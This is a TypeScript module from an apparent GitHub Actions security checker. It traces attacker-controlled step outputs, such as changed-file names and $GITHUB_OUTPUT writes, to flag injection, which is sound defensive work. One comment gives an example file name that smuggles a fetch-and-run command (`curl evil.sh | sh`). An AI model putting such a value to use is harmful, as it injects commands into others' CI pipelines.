import type { Document } from 'yaml';
import { mapValue, scalarText } from '../shared-yaml/nodes';
import { untrustedContext } from './untrusted';
import { classifyExpressions, normaliseExpression, usesAction, type Step } from './workflow';

/**
 * Actions whose outputs carry what a contributor chose: the names of the files a pull request
 * changes (a file may be called `$(curl evil.sh | sh).md`).
 */
const ACTIONS_WITH_UNTRUSTED_OUTPUTS: Readonly<Record<string, string>> = {
  'tj-actions/changed-files': 'the names of the files the pull request changes',
  'dorny/paths-filter': 'the names of the files the pull request changes',
};

/** `echo "name=value" >> $GITHUB_OUTPUT` (any quoting, `printf` too) or the old `::set-output name=…::value`. */
const OUTPUT_WRITE = /^\s*(?:echo|printf)\b(?:\s+-\w+)*\s+["']?([A-Za-z_][\w-]*)=(.*?)>>\s*["']?\$\{?GITHUB_OUTPUT\b/;
const SET_OUTPUT = /::set-output\s+name=([A-Za-z_][\w-]*)::(.*)$/;

/**
 * What the outputs of a step hold when they hold attacker-controlled text: output name (lower-cased;
 * `*` for every output of an action listed above) → where the text came from. Read from the lines of
 * its `run:` script that write `$GITHUB_OUTPUT` with an untrusted expression or an `env:` variable
 * holding one (`untrustedEnv`).
 */
export function untrustedOutputs(step: Step, document: Document.Parsed, untrustedEnv: ReadonlyMap<string, string>): Map<string, string> {
  const outputs = new Map<string, string>();
  if (step.uses) {
    const uses = String(step.uses.value);
    for (const [action, what] of Object.entries(ACTIONS_WITH_UNTRUSTED_OUTPUTS)) if (usesAction(uses, action)) outputs.set('*', what);
  }
  const script = step.run === undefined ? undefined : scalarText(step.run, document);
  if (script === undefined) return outputs;
  for (const line of script.split('\n')) {
    const write = OUTPUT_WRITE.exec(line) ?? SET_OUTPUT.exec(line);
    if (write === null) continue;
    const [, name, value] = write;
    const source = classifyExpressions(value, untrustedContext) ?? shellVariableSource(value, untrustedEnv);
    if (source !== undefined) outputs.set(name.toLowerCase(), source);
  }
  return outputs;
}

/** The untrusted context behind a `$NAME` or `${NAME}` the value reads, if any. */
function shellVariableSource(value: string, untrustedEnv: ReadonlyMap<string, string>): string | undefined {
  for (const match of value.matchAll(/\$\{?([A-Za-z_]\w*)/g)) {
    const source = untrustedEnv.get(match[1]);
    if (source !== undefined) return source;
  }
  return undefined;
}

/** The step id of a step, lower-cased (GitHub's contexts ignore case), if it has one. */
export function stepId(step: Step, document: Document.Parsed): string | undefined {
  return scalarText(mapValue(step.node, 'id', document), document)?.trim().toLowerCase() || undefined;
}

/**
 * The first `steps.<id>.outputs.<name>` an expression reads that holds untrusted text, given the
 * outputs of the earlier steps of the job (`<id>` → output name → source).
 */
export function untrustedOutputRead(body: string, earlier: ReadonlyMap<string, ReadonlyMap<string, string>>): { path: string; source: string; step: string } | undefined {
  for (const match of normaliseExpression(body).matchAll(/\bsteps\.([\w-]+)\.outputs\.([\w-]+)/g)) {
    const outputs = earlier.get(match[1]);
    const source = outputs?.get(match[2]) ?? outputs?.get('*');
    if (source !== undefined) return { path: match[0], source, step: match[1] };
  }
  return undefined;
}
